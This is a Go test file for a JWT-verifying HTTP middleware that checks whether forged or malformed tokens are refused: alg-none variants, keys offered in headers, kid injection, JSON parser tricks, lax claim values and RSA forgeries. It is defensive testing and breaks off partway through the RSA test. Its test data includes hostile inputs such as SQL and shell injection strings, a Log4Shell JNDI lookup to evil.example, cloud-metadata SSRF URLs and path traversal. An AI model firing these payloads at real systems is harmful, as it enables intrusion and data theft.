package jwthttp_test

import (
	"bytes"
	"compress/flate"
	"crypto"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/x509"
	"encoding/asn1"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"math/big"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/go-jose/go-jose/v4"
	"github.com/golang-jwt/jwt/v5"

	"github.com/jwthttp/jwthttp"
)

// These attacks on JWTs are in the literature (RFC 8725, CVEs, write-ups). Each has the reason
// that it fails for. Attacks on a single rule are in the test of that rule: TestSegments,
// TestHeaderRules, TestClaimRules, TestIssuerAndAudience, TestType, TestAlgorithmConfusion,
// TestPublicKeysAreNoSecrets, TestNewRefusesKeys, TestES256Signatures, TestRSASignatures,
// TestEdDSASignatures, TestEdDSAKeysOfSmallOrder, and in package jwks TestParseKey,
// TestParseSet and TestParseDocument.

// fails asserts that a token is refused for exactly this reason, and over HTTP as well.
func fails[C any](t *testing.T, auth *jwthttp.Middleware[C], raw string, want error) {
	t.Helper()
	verify(t, auth, raw, want)
	if want == nil {
		return
	}
	_, err := auth.Verify(t.Context(), raw)
	class := want
	if want == jwthttp.ErrUnknownKey {
		class = jwt.ErrTokenUnverifiable
	}
	if got := classesOf(err); len(got) != 1 || got[0] != class || errors.Is(err, jwthttp.ErrUnknownKey) != (want == jwthttp.ErrUnknownKey) {
		t.Errorf("%v is of %v, want %v alone", err, got, want)
	}
	r := httptest.NewRequest("GET", "/", nil)
	r.Header["Authorization"] = []string{"Bearer " + raw}
	rec := httptest.NewRecorder()
	auth.Handler(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { t.Error("next ran") })).ServeHTTP(rec, r)
	if rec.Code != 401 && rec.Code != 400 {
		t.Errorf("status %d", rec.Code)
	}
}

// RFC 8725 section 2.1, CVE-2015-9235 and its many successors.
func TestAlgNone(t *testing.T) {
	all := mustNew[AppClaims](t, allKeys(), jwthttp.Options{})
	for _, alg := range []string{
		"none", "None", "NONE", "nOnE", "noNe", "none ", " none", `none\u0000`, `n\u006fne`, `none\n`, "\uff4e\uff4f\uff4e\uff45", "n\u043ene", "no\u200bne", "null", "nil", "undefined", "unsecured", "HMAC", "HS256,none", "none,HS256", "NoneAlgorithm", "",
	} {
		header := b64(`{"alg":"` + alg + `","typ":"JWT"}`)
		input := header + "." + b64(payload(""))
		for what, tc := range map[string]struct {
			raw  string
			want error
		}{
			"no signature":          {input + ".", jwt.ErrTokenMalformed},
			"no dot":                {input, jwt.ErrTokenMalformed},
			"no payload":            {header + "..", jwt.ErrTokenMalformed},
			"a byte":                {input + ".AA", jwthttp.ErrUnknownKey},
			"padding for signature": {input + ".==", jwt.ErrTokenMalformed},
			"HMAC of the secret":    {macSegments(secret, input), jwthttp.ErrUnknownKey},
			"HMAC without a key":    {macSegments(nil, input), jwthttp.ErrUnknownKey},
			"another's signature":   {input + good()[strings.LastIndexByte(good(), '.'):], jwthttp.ErrUnknownKey},
		} {
			t.Run(alg+", "+what, func(t *testing.T) {
				fails(t, all, tc.raw, tc.want)
				for _, a := range algorithms() {
					fails(t, mustNew[AppClaims](t, a.key, jwthttp.Options{}), tc.raw, tc.want)
				}
			})
		}
	}
}

// RFC 7515 sections 4.1.2 to 4.1.8, CVE-2018-0114: a key or a certificate in the header is
// never used. A URL in the header is never asked for one.
func TestKeysOfferedByTheToken(t *testing.T) {
	asked := 0
	server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked++ }))
	defer server.Close()
	forger := rsaForger()
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour)}
	cert := must(x509.CreateCertificate(rand.Reader, template, template, &forger.PublicKey, forger))
	jwk := fmt.Sprintf(`{"kty":"RSA","e":"AQAB","n":%q,"alg":"RS256","use":"sig","kid":"k"}`, b64(string(forger.N.Bytes())))
	thumbprint := sha1.Sum(cert)
	offers := map[string]string{
		"jwk":             `"jwk":` + jwk,
		"jwk of a secret": `"jwk":{"kty":"oct","k":"` + b64(string(secretN(1))) + `"}`,
		"jwks":            `"jwks":{"keys":[` + jwk + `]}`,
		"x5c":             `"x5c":["` + base64.StdEncoding.EncodeToString(cert) + `"]`,
		"jku":             `"jku":"` + server.URL + `/jwks"`,
		"x5u":             `"x5u":"` + server.URL + `/cert"`,
		"x5t":             `"x5t":"` + b64(string(thumbprint[:])) + `"`,
		"iss and jku":     `"iss":"` + server.URL + `","jku":"` + server.URL + `/jwks"`,
		"file":            `"jku":"file:///etc/passwd"`,
		"metadata":        `"x5u":"http://169.254.169.254/latest/meta-data/"`,
		"all":             `"jwk":` + jwk + `,"x5c":["` + base64.StdEncoding.EncodeToString(cert) + `"],"jku":"` + server.URL + `","x5u":"` + server.URL + `"`,
	}
	ours := jwthttp.RS256(&rsaKey().PublicKey)
	for name, offer := range offers {
		t.Run(name, func(t *testing.T) {
			for _, tc := range []struct {
				keys   jwthttp.KeySource
				header string
				want   error
			}{
				{ours, `{"alg":"RS256",` + offer + `}`, jwt.ErrTokenSignatureInvalid},
				{ours.WithID("k"), `{"alg":"RS256","kid":"k",` + offer + `}`, jwt.ErrTokenSignatureInvalid},
				{ours.WithID("k"), `{"alg":"RS256","kid":"forger",` + offer + `}`, jwthttp.ErrUnknownKey},
				{jwthttp.KeySet{ours, jwthttp.HS256(secret)}, `{"alg":"RS256",` + offer + `}`, jwt.ErrTokenSignatureInvalid},
			} {
				auth := mustNew[AppClaims](t, tc.keys, jwthttp.Options{})
				fails(t, auth, signRS(t, forger, tc.header, payload("")), tc.want)
			}
			fails(t, mustNew[AppClaims](t, jwthttp.HS256(secret), jwthttp.Options{}), signHS(secretN(1), `{"alg":"HS256",`+offer+`}`, payload("")), jwt.ErrTokenSignatureInvalid)
		})
	}
	if asked != 0 {
		t.Errorf("a server named in a token was asked %d times", asked)
	}
}

// A kid is compared with ids. It is not a path, a query or a pattern. Each token is signed
// with the text that an attacker hopes the kid leads to, and with the right secrets too.
func TestInjectionByKid(t *testing.T) {
	auth := mustNew[AppClaims](t, jwthttp.KeySet{jwthttp.HS256(secret).WithID("a"), jwthttp.HS256(secretN(1)).WithID("b")}, jwthttp.Options{})
	unknown, refused := jwthttp.ErrUnknownKey, jwt.ErrTokenUnverifiable
	for _, tc := range []struct {
		name, kid string // as it is written in JSON
		contents  string
		want      error
	}{
		{"empty file", `../../../../../../dev/null`, "", unknown},
		{"known file", `/proc/sys/kernel/randomize_va_space`, "2\n", unknown},
		{"known file, Windows", `..\\..\\..\\Windows\\win.ini`, "; for 16-bit app support", unknown},
		{"file beside the key", `./a`, "", unknown},
		{"SQL", `x' UNION SELECT 'secret' -- `, "secret", unknown},
		{"SQL, true", `' OR 1=1 --`, "", unknown},
		{"NoSQL", `{\"$ne\":null}`, "", unknown},
		{"LDAP", `*)(uid=*`, "", unknown},
		{"shell", `a|/usr/bin/id`, "", unknown},
		{"shell, substitution", `$(id)`, "", unknown},
		{"template", `{{7*7}}`, "49", unknown},
		{"Log4Shell", `${jndi:ldap://evil.example/a}`, "", unknown},
		{"URL", `http://169.254.169.254/latest/meta-data/`, "", unknown},
		{"pattern", `*`, "", unknown},
		{"percent-encoded NUL", `a%00`, "", unknown},
		{"percent-encoded", `%61`, "", unknown},
		{"space before", ` a`, "", unknown},
		{"space after", `a `, "", unknown},
		{"two ids", `a,b`, "", unknown},
		{"a prefix", `ab`, "", unknown},
		{"null as a word", `null`, "", unknown},
		{"NUL", `\u0000`, "\x00", refused},
		{"NUL after", `a\u0000`, "", refused},
		{"NUL and an extension", `a\u0000.pem`, "", refused},
		{"CRLF", `a\r\nSet-Cookie: x=y`, "", refused},
		{"line feed", `a\n`, "", refused},
		{"tab", `a\t`, "", refused},
		{"escape sequence", `a\u001b[2J`, "", refused},
		{"fullwidth", "\uff41", "", refused},
		{"Cyrillic", "\u0430", "", refused},
		{"zero width", `a\u200b`, "", refused},
		{"right to left", `\u202ea`, "", refused},
		{"combining", `a\u0301`, "", refused},
		{"soft hyphen", "a\u00ad", "", refused},
	} {
		t.Run(tc.name, func(t *testing.T) {
			header := `{"alg":"HS256","kid":"` + tc.kid + `"}`
			for _, key := range [][]byte{[]byte(tc.contents), secret, secretN(1)} {
				fails(t, auth, signHS(key, header, payload("")), tc.want)
			}
		})
	}
	fails(t, auth, signHS(secret, `{"alg":"HS256","kid":"\u0061"}`, payload("")), nil)
	fails(t, auth, signHS(secretN(1), `{"alg":"HS256","kid":"a"}`, payload("")), jwt.ErrTokenSignatureInvalid)
}

// These tokens contain something that changes how a token is read, or are not compact JWS.
func TestOtherForms(t *testing.T) {
	var deflated bytes.Buffer
	w := must(flate.NewWriter(&deflated, flate.BestCompression))
	w.Write([]byte(payload("")))
	w.Close()
	header, body, sig := b64(plainHeader), b64(payload("")), good()[strings.LastIndexByte(good(), '.')+1:]
	inner := signHS(secret, plainHeader, payload(""))
	encrypted := func(payload string, opts *jose.EncrypterOptions) string {
		e := must(jose.NewEncrypter(jose.A256GCM, jose.Recipient{Algorithm: jose.DIRECT, Key: secret}, opts))
		return must(must(e.Encrypt([]byte(payload))).CompactSerialize())
	}
	signer := must(jose.NewSigner(jose.SigningKey{Algorithm: jose.HS256, Key: secret}, nil))
	flattened := must(signer.Sign([]byte(payload("")))).FullSerialize()
	var parts struct{ Payload, Protected, Signature string }
	if err := json.Unmarshal([]byte(flattened), &parts); err != nil {
		t.Fatal(err)
	}
	fails(t, mustNew[AppClaims](t, jwthttp.HS256(secret), jwthttp.Options{}), parts.Protected+"."+parts.Payload+"."+parts.Signature, nil)
	general := fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, parts.Payload, parts.Protected, parts.Signature)
	with := func(more string) string { return `{"alg":"HS256",` + more + `}` }
	hs := func(more string) string { return signHS(secret, with(more), payload("")) }
	malformed, refused, claims := jwt.ErrTokenMalformed, jwt.ErrTokenUnverifiable, jwt.ErrTokenInvalidClaims

	for _, tc := range []struct {
		name, raw string
		want      error
	}{
		// RFC 7515 section 4.1.11
		{"RFC 7515 appendix E", "eyJhbGciOiJub25lIiwNCiAiY3JpdCI6WyJodHRwOi8vZXhhbXBsZS5jb20vVU5ERUZJTkVEIl0sDQogImh0dHA6Ly9leGFtcGxlLmNvbS9VTkRFRklORUQiOnRydWUNCn0.RkFJTA.", malformed},
		{"RFC 7515 appendix E with a signature", "eyJhbGciOiJub25lIiwNCiAiY3JpdCI6WyJodHRwOi8vZXhhbXBsZS5jb20vVU5ERUZJTkVEIl0sDQogImh0dHA6Ly9leGFtcGxlLmNvbS9VTkRFRklORUQiOnRydWUNCn0.RkFJTA.AA", refused},
		{"crit, unknown and present", hs(`"crit":["http://example.com/UNDEFINED"],"http://example.com/UNDEFINED":true`), refused},
		{"crit, a name twice", hs(`"crit":["exp","exp"],"exp":4102444800`), refused},
		{"crit, registered name", hs(`"crit":["alg"]`), refused},
		{"crit, empty name", hs(`"crit":[""]`), refused},
		{"crit, a string", hs(`"crit":"exp","exp":1`), refused},
		{"crit, false", hs(`"crit":false`), refused},
		{"crit after a nested one", hs(`"x":{"crit":0},"crit":["x"]`), refused},
		{"crit escaped wholly", hs(`"\u0063\u0072\u0069\u0074":["x"]`), refused},
		{"crit twice", hs(`"crit":["x"],"crit":[]`), malformed},
		{"crit twice by an escape", hs(`"crit":[],"cri\u0074":["x"]`), malformed},
		{"crit inside another member alone", hs(`"x":{"crit":["y"]}`), nil},
		{"PASSporT", hs(`"ppt":"shaken","crit":["ppt"]`), refused},

		{"RFC 7515 appendix A.5", "eyJhbGciOiJub25lIn0.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ.", malformed},

		// RFC 7797
		{"RFC 7797 section 4.2, detached", "eyJhbGciOiJIUzI1NiIsImI2NCI6ZmFsc2UsImNyaXQiOlsiYjY0Il19..A5dxf2s96_n5FLueVuW1Z_vh161FwXZC4YLPff6dmDY", malformed},
		{"RFC 7797 section 4.2, in place", "eyJhbGciOiJIUzI1NiIsImI2NCI6ZmFsc2UsImNyaXQiOlsiYjY0Il19.$.02.A5dxf2s96_n5FLueVuW1Z_vh161FwXZC4YLPff6dmDY", malformed},
		{"b64 false, bare payload", macSegments(secret, b64(with(`"b64":false,"crit":["b64"]`))+"."+payload("")), malformed},
		{"b64 false, no crit", hs(`"b64":false`), refused},
		{"b64 false, payload of base64url characters", macSegments(secret, b64(with(`"b64":false,"crit":["b64"]`))+".e30"), refused},
		{"b64 and crit", hs(`"b64":true,"crit":["b64"]`), refused},

		{"zip, deflated", signHS(secret, with(`"zip":"DEF"`), deflated.String()), refused},
		{"deflated without zip", signHS(secret, plainHeader, deflated.String()), claims},

		// RFC 7516
		{"JWE", encrypted(payload(""), nil), malformed},
		{"JWE of a JWS", encrypted(inner, (&jose.EncrypterOptions{}).WithContentType("JWT")), malformed},
		{"JWE, zipped", encrypted(payload(""), &jose.EncrypterOptions{Compression: jose.DEFLATE}), malformed},
		{"three segments of a JWE", strings.Join(strings.Split(encrypted(payload(""), nil), ".")[2:], "."), malformed},
		{"JWE header", signHS(secret, `{"alg":"dir","enc":"A256GCM"}`, payload("")), refused},
		{"PBES2 with a huge count (CVE-2023-50967)", signHS(secret, `{"alg":"PBES2-HS256+A128KW","p2c":2147483647,"p2s":"AAAA"}`, payload("")), jwthttp.ErrUnknownKey},

		// RFC 7519 section 5.2
		{"nested JWT", signHS(secret, `{"alg":"HS256","cty":"JWT"}`, inner), claims},
		{"nested JWT as a string", signHS(secret, `{"alg":"HS256","cty":"JWT"}`, `"`+inner+`"`), claims},
		{"nested JWT without cty", signHS(secret, plainHeader, inner), claims},

		// RFC 7515 section 7.2, and other containers
		{"flattened", flattened, malformed},
		{"general", general, malformed},
		{"general, in a segment", b64(general) + ".e30.AA", jwthttp.ErrUnknownKey},
		{"polyglot of CVE-2022-39227", fmt.Sprintf(`{"  %s.%s.":"","protected":%q,"payload":%q,"signature":%q}`, header, b64(payload(`"role":"admin"`)), parts.Protected, parts.Payload, parts.Signature), malformed},
		{"SD-JWT", inner + "~WyJzYWx0IiwieCIsMV0~", malformed},
		{"SD-JWT without disclosures", inner + "~", malformed},
		{"PASETO", "v4.public.AAAA", malformed},
		{"two tokens", inner + "," + inner, malformed},
		{"two tokens in a row", inner + inner, malformed},
		{"scheme twice", "Bearer " + inner, malformed},
		{"detached", header + ".." + sig, malformed},

		// Spellings
		{"percent-encoded dots", strings.ReplaceAll(inner, ".", "%2E"), malformed},
		{"percent-encoded character", strings.Replace(inner, "e", "%65", 1), malformed},
		{"fullwidth dots", strings.ReplaceAll(inner, ".", "\uff0e"), malformed},
		{"ideographic dots", strings.ReplaceAll(inner, ".", "\u3002"), malformed},
		{"escaped dots", strings.ReplaceAll(inner, ".", `\u002e`), malformed},
		{"zero width space", strings.Replace(inner, ".", ".\u200b", 1), malformed},
		{"byte order mark", "\ufeff" + inner, malformed},
		{"tab within a segment", inner[:8] + "\t" + inner[8:], malformed},
		{"vertical tab", inner + "\v", malformed},
		{"percent-encoded padding", inner + "%3D", malformed},
		{"padded segments", macSegments(secret, base64.URLEncoding.EncodeToString([]byte(`{"alg":"HS256"} `))+"."+body), malformed},
		{"header of base64 twice", macSegments(secret, b64(header)+"."+body), malformed},
		{"payload of base64 twice", macSegments(secret, header+"."+b64(body)), claims},
		{"signature in hex", header + "." + body + "." + fmt.Sprintf("%x", mac(secret, header+"."+body)), jwt.ErrTokenSignatureInvalid},
		{"signature over the decoded text", header + "." + body + "." + b64(string(mac(secret, plainHeader+"."+payload("")))), jwt.ErrTokenSignatureInvalid},
		{"signature cut to 128 bits", header + "." + body + "." + b64(string(mac(secret, header+"."+body)[:16])), jwt.ErrTokenSignatureInvalid},
		{"dot moved to the left", header[:len(header)-1] + "." + header[len(header)-1:] + body + "." + sig, malformed},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fails(t, mustNew[AppClaims](t, jwthttp.HS256(secret), jwthttp.Options{}), tc.raw, tc.want)
		})
	}

	// The JSON forms are not b64tokens either. Over HTTP they are a malformed credential (400)
	// and not a bad token.
	s := serve(t, mustNew[AppClaims](t, jwthttp.HS256(secret), jwthttp.Options{}))
	for _, raw := range []string{flattened, general} {
		if a := s.send(t, "GET", "Authorization: Bearer "+raw); a.StatusCode != 400 || a.ran != 0 {
			t.Errorf("%d, next ran %d times", a.StatusCode, a.ran)
		}
	}
}

// One parser takes these texts for JSON and another does not. They are tried in the header and
// in the payload.
func TestOtherJSON(t *testing.T) {
	auth := mustNew[AppClaims](t, jwthttp.HS256(secret), jwthttp.Options{})
	wide := func(text string, bigEndian bool) string {
		var b []byte
		for _, unit := range utf16.Encode([]rune(text)) {
			if bigEndian {
				b = append(b, byte(unit>>8), byte(unit))
			} else {
				b = append(b, byte(unit), byte(unit>>8))
			}
		}
		return string(b)
	}
	utf32 := func(text string) string {
		return strings.Join(strings.Split(text, ""), "\x00\x00\x00") + "\x00\x00\x00"
	}
	for name, spoil := range map[string]func(object, member string) string{
		"UTF-16LE":             func(o, _ string) string { return wide(o, false) },
		"UTF-16BE":             func(o, _ string) string { return wide(o, true) },
		"UTF-16LE with a mark": func(o, _ string) string { return wide("\ufeff"+o, false) },
		"UTF-16BE with a mark": func(o, _ string) string { return wide("\ufeff"+o, true) },
		"UTF-32LE":             func(o, _ string) string { return utf32(o) },
		"UTF-7":                func(o, _ string) string { return "+AHs-" + o[1:] },
		"overlong quote":       func(o, _ string) string { return strings.Replace(o, `"`, "\xc0\xa2", 1) },
		"overlong letter": func(o, m string) string {
			return strings.Replace(o, m, "\xc1"+string([]byte{0x80 | m[0]&0x3f})+m[1:], 1)
		},
		"overlong in a value":    func(o, _ string) string { return strings.Replace(o, `{`, "{\"x\":\"\xc0\xaf\",", 1) },
		"overlong of 3 bytes":    func(o, _ string) string { return strings.Replace(o, `{`, "{\"x\":\"\xe0\x80\xaf\",", 1) },
		"surrogates as UTF-8":    func(o, _ string) string { return strings.Replace(o, `{`, "{\"x\":\"\xed\xa0\xbd\xed\xb8\x80\",", 1) },
		"beyond Unicode":         func(o, _ string) string { return strings.Replace(o, `{`, "{\"x\":\"\xf4\x90\x80\x80\",", 1) },
		"low surrogate first":    func(o, _ string) string { return strings.Replace(o, `{`, `{"x":"\ude00\ud83d",`, 1) },
		"high surrogate twice":   func(o, _ string) string { return strings.Replace(o, `{`, `{"x":"\ud83d\ud83d",`, 1) },
		"lone surrogate in name": func(o, _ string) string { return strings.Replace(o, `{`, `{"\ud83d":1,`, 1) },
		"NUL in a string":        func(o, _ string) string { return strings.Replace(o, `{`, "{\"x\":\"a\x00b\",", 1) },
		"NUL in a name":          func(o, m string) string { return strings.Replace(o, m, m+"\x00", 1) },
		"NUL between members":    func(o, _ string) string { return strings.Replace(o, `{`, "{\x00", 1) },
		"line feed in a string":  func(o, _ string) string { return strings.Replace(o, `{`, "{\"x\":\"a\nb\",", 1) },
		"form feed for space":    func(o, _ string) string { return "\f" + o },
		"no-break space":         func(o, _ string) string { return "\u00a0" + o },
		"comma for space":        func(o, _ string) string { return "," + o },
		"colon for space":        func(o, _ string) string { return ":" + o },
		"two commas":             func(o, _ string) string { return strings.Replace(o, `{`, `{"x":1,,`, 1) },
		"no comma":               func(o, _ string) string { return strings.Replace(o, `{`, `{"x":1 `, 1) },
		"no colon":               func(o, _ string) string { return strings.Replace(o, `{`, `{"x" 1,`, 1) },
		"equals sign":            func(o, _ string) string { return strings.Replace(o, `{`, `{"x"=1,`, 1) },
		"comment":                func(o, _ string) string { return strings.Replace(o, `{`, `{/*x*/`, 1) },
		"comment after":          func(o, _ string) string { return o + "//" },
		"hash comment":           func(o, _ string) string { return "#x\n" + o },
		"single quotes":          func(o, _ string) string { return strings.ReplaceAll(o, `"`, `'`) },
		"no quotes":              func(o, m string) string { return strings.Replace(o, `"`+m+`"`, m, 1) },
		"hex escape":             func(o, m string) string { return strings.Replace(o, m, fmt.Sprintf(`\x%02x%s`, m[0], m[1:]), 1) },
		"escape in braces":       func(o, m string) string { return strings.Replace(o, m, fmt.Sprintf(`\u{%02x}%s`, m[0], m[1:]), 1) },
		"escape of another kind": func(o, m string) string { return strings.Replace(o, m, `\`+m, 1) },
		"escape cut short":       func(o, _ string) string { return strings.Replace(o, `{`, `{"x":"\u00",`, 1) },
		"capital U":              func(o, m string) string { return strings.Replace(o, m, fmt.Sprintf(`\U%04x%s`, m[0], m[1:]), 1) },
		"True":                   func(o, _ string) string { return strings.Replace(o, `{`, `{"x":True,`, 1) },
		"undefined":              func(o, _ string) string { return strings.Replace(o, `{`, `{"x":undefined,`, 1) },
		"infinite":               func(o, _ string) string { return strings.Replace(o, `{`, `{"x":Infinity,`, 1) },
		"leading zero":           func(o, _ string) string { return strings.Replace(o, `{`, `{"x":01,`, 1) },
		"bracket of another":     func(o, _ string) string { return strings.Replace(o, `{`, `{"x":[}],`, 1) },
		"never closed":           func(o, _ string) string { return strings.TrimSuffix(o, "}") },
		"closed twice":           func(o, _ string) string { return o + "}" },
		"in an array":            func(o, _ string) string { return "[" + o + "]" },
		"in a string":            func(o, _ string) string { return string(must(json.Marshal(o))) },
		"two lines of JSON":      func(o, _ string) string { return o + "\n" + o },
		"record separator":       func(o, _ string) string { return "\x1e" + o + "\n" },
		"protection of Angular":  func(o, _ string) string { return ")]}',\n" + o },
		"same name later":        func(o, m string) string { return strings.TrimSuffix(o, "}") + `,"` + m + `":1}` },
		"same name first":        func(o, m string) string { return `{"` + m + `":1,` + o[1:] },
		"same name, escaped":     func(o, m string) string { return fmt.Sprintf(`{"\u%04X%s":1,%s`, m[0], m[1:], o[1:]) },
		"same names of others":   func(o, _ string) string { return `{"/":1,"\/":2,` + o[1:] },
		"same names, surrogates": func(o, _ string) string { return `{"😀":1,"\ud83d\ude00":2,` + o[1:] },
		"prototype, twice":       func(o, _ string) string { return `{"__proto__":{"a":1},"__proto__":{},` + o[1:] },
	} {
		t.Run(name, func(t *testing.T) {
			fails(t, auth, signHS(secret, spoil(`{"alg":"HS256","typ":"JWT"}`, "alg"), payload("")), jwt.ErrTokenMalformed)
			fails(t, auth, signHS(secret, plainHeader, spoil(payload(""), "exp")), jwt.ErrTokenInvalidClaims)
		})
	}
}

// A lax comparison or conversion would accept these values.
func TestOtherValues(t *testing.T) {
	auth := mustNew[AppClaims](t, jwthttp.HS256(secret), jwthttp.Options{Issuer: "https://a.example", Audience: []string{"orders"}})
	const iss, aud, exp = `"iss":"https://a.example"`, `"aud":"orders"`, `"exp":4102444800`
	claims, issuer, audience := jwt.ErrTokenInvalidClaims, jwt.ErrTokenInvalidIssuer, jwt.ErrTokenInvalidAudience
	type row struct {
		payload string
		want    error
	}
	rows := []row{{`{` + iss + `,` + aud + `,` + exp + `}`, nil}}
	for value, want := range map[string]error{
		`NaN`: claims, `nan`: claims, `-NaN`: claims, `Infinity`: claims, `-Infinity`: claims, `inf`: claims, `"NaN"`: claims, `"Infinity"`: claims,
		`0x7fffffff`: claims, `0b1`: claims, `1_000_000_000_000`: claims, `+4102444800`: claims, `04102444800`: claims, `4102444800.`: claims, `.5`: claims, `4e`: claims, `1e+`: claims,
		`4102444800n`: claims, `4,102,444,800`: claims, `"4102444800"`: claims, `"2100-01-01T00:00:00Z"`: claims, `""`: claims, `[]`: claims, `{}`: claims, `false`: claims, `{"$date":4102444800}`: claims,
		`9223372036854775807`: claims, `9223372036854775808`: claims, `18446744073709551616`: claims, `1e309`: claims, `9e999999999999999999`: claims, `4102444800000`: claims, // milliseconds
		`-4102444800`: claims, `-1e-400`: claims, `-9223372036854775809`: claims, `-0`: jwt.ErrTokenExpired, `0.0`: jwt.ErrTokenExpired, `1e-999999999999`: jwt.ErrTokenExpired,
		`4102444800.0000000000000000000000000000000001`: nil, `0.41024448e10`: nil, `41024448000000000000000000000e-19`: nil,
		"٤١٠٢٤٤٤٨٠٠": claims, "４１０２４４４８００": claims, // digits of other scripts
	} {
		rows = append(rows, row{`{` + iss + `,` + aud + `,"exp":` + value + `}`, want})
	}
	for value, want := range map[string]error{
		`"https://a.example/"`: issuer, `"https://A.example"`: issuer, `"HTTPS://a.example"`: issuer, `"http://a.example"`: issuer, `"https://a.example:443"`: issuer, `"https://a.example."`: issuer,
		`"https://a.example?"`: issuer, `"https://a.example#"`: issuer, `"https://user@a.example"`: issuer, `"https://a.example@evil.example"`: issuer, `"https://a.example.evil.example"`: issuer, `"https://evil.example/https://a.example"`: issuer,
		`"https://%61.example"`: issuer, `"https://a%2eexample"`: issuer, `" https://a.example"`: issuer, `"https://a.example "`: issuer, `"https://a.example\n"`: issuer, `"https://a.example\t"`: issuer,
		`"https://a.example\u0000"`: issuer, `"https://a.example\u0000.evil.example"`: issuer, `"https://\u0430.example"`: issuer, `"https://\uff41.example"`: issuer, `"https://a\u3002example"`: issuer, `"https://a\u00ad.example"`: issuer, `"https://a.example\u200b"`: issuer, `"\u202ehttps://a.example"`: issuer, `"\ufeffhttps://a.example"`: issuer,
		`"*"`: issuer, `"https://*.example"`: issuer, `".*"`: issuer, `"a.example"`: issuer, `"//a.example"`: issuer, `"null"`: issuer, `""`: issuer,
		`["https://a.example"]`: claims, `[]`: claims, `{"https://a.example":1}`: claims, `null`: claims, `true`: claims, `0`: claims,
		`"https:\/\/a.example"`: nil, `"https://\u0061.example"`: nil,
	} {
		rows = append(rows, row{`{"iss":` + value + `,` + aud + `,` + exp + `}`, want})
	}
	for value, want := range map[string]error{
		`"ORDERS"`: audience, `"orders/"`: audience, `"orders "`: audience, `" orders"`: audience, `"orders\u0000"`: audience, `"orders\n"`: audience, `"orders billing"`: audience, `"orders,billing"`: audience, `"billing orders"`: audience, `"[\"orders\"]"`: audience, `"*"`: audience, `""`: audience, `"order"`: audience, `"\u043erders"`: audience, `"\uff4frders"`: audience, `"or\u200bders"`: audience,
		`[]`: audience, `[""]`: audience, `["ORDERS","Orders"]`: audience, `["orders,billing"]`: audience, `["x","order","s"]`: audience,
		`["orders",1]`: claims, `["orders",null]`: claims, `[1,"orders"]`: claims, `["orders",["x"]]`: claims, `[["orders"]]`: claims, `["orders",{}]`: claims, `[true,"orders"]`: claims, `{"0":"orders"}`: claims, `{"orders":true}`: claims, `null`: claims, `true`: claims, `0`: claims,
		`["orders","orders"]`: nil, `["orders",""]`: nil, `["\u006frders"]`: nil,
	} {
		rows = append(rows, row{`{` + iss + `,"aud":` + value + `,` + exp + `}`, want})
	}
	for _, more := range []string{`"sub":null`, `"sub":0`, `"sub":["alice"]`, `"sub":{"id":"alice"}`, `"sub":true`, `"jti":[]`, `"jti":{}`, `"nbf":"0"`, `"nbf":[0]`, `"nbf":true`, `"nbf":{}`, `"nbf":-1`, `"iat":-1`, `"iat":[1]`, `"iat":""`} {
		rows = append(rows, row{`{` + iss + `,` + aud + `,` + exp + `,` + more + `}`, claims})
	}
	for _, tc := range rows {
		t.Run(tc.payload, func(t *testing.T) { fails(t, auth, signHS(secret, plainHeader, tc.payload), tc.want) })
	}
	// A NUL does not end a string. This subject is not alice.
	got := verify(t, auth, signHS(secret, plainHeader, `{`+iss+`,`+aud+`,`+exp+`,"sub":"alice\u0000"}`), nil)
	if got.Claims.Subject != "alice\x00" {
		t.Errorf("sub = %q", got.Claims.Subject)
	}
}

// RFC 8017 sections 8.2.2 and 9.2: the digest has one encoding, and the signature is one
// number below the modulus.
func TestRSAForgeries(t *testing.T) {
	key := rsaKey()
	size := key.Size()
	sum := func(input string) []byte { h := sha256.Sum256([]byte(input)); return h[:] }
	// The payload is chosen so that two things hold:
	//
	//   - Its signature plus the modulus still fits in the size.
	//   - Its digest is odd, because a cube root modulo 2^k needs an odd number.
	var input string
	var s *big.Int
	limit := new(big.Int).Lsh(big.NewInt(1), uint(size)*8)
	for n := 0; ; n++ {
		input = b64(`{"alg":"RS256"}`) + "." + b64(payload(fmt.Sprintf(`"n":%d`, n)))
		s = new(big.Int).SetBytes(must(rsa.SignPKCS1v15(nil, key, crypto.SHA256, sum(input))))
		if new(big.Int).Add(s, key.N).Cmp(limit) < 0 && sum(input)[31]&1 == 1 {
			break
		}
	}
	hash := sum(input)
	number := func(x *big.Int) []byte { return x.FillBytes(make([]byte, size)) }
	add := func(x, y *big.Int) *big.Int { return new(big.Int).Add(x, y) }
	raw := func(em []byte) []byte { // signs any text
		return number(new(big.Int).Exp(new(big.Int).SetBytes(em), key.D, key.N))
	}
	oid := asn1.ObjectIdentifier{2, 16, 840, 1, 101, 3, 4, 2, 1}
	digestInfo := must(asn1.Marshal(struct {
		Algorithm struct {
			OID  asn1.ObjectIdentifier
			Null asn1.RawValue
		}
		Hash []byte
	}{struct {
		OID  asn1.ObjectIdentifier
		Null asn1.RawValue
	}{oid, asn1.NullRawValue}, hash}))
	withoutNull := must(asn1.Marshal(struct {
		Algorithm struct{ OID asn1.ObjectIdentifier }
		Hash      []byte
	}{struct{ OID asn1.ObjectIdentifier }{oid}, hash}))
	// padded returns 0, the type of the block, padding up to the size, 0, and the rest.
	padded := func(kind, with byte, rest []byte) []byte {
		em := append([]byte{0, kind}, bytes.Repeat([]byte{with}, size-3-len(rest))...)
		return append(append(em, 0), rest...)
	}
	short := slices.Concat([]byte{0, 1}, bytes.Repeat([]byte{0xff}, 8), []byte{0}, digestInfo)
	garbage := bytes.Repeat([]byte{0xaa}, size-len(short))
	longLength := slices.Concat([]byte{0x30, 0x81, digestInfo[1]}, digestInfo[2:]) // BER, but not DER

	auth := mustNew[AppClaims](t, jwthttp.RS256(&key.PublicKey), jwthttp.Options{})
	invalid := jwt.ErrTokenSignatureInvalid
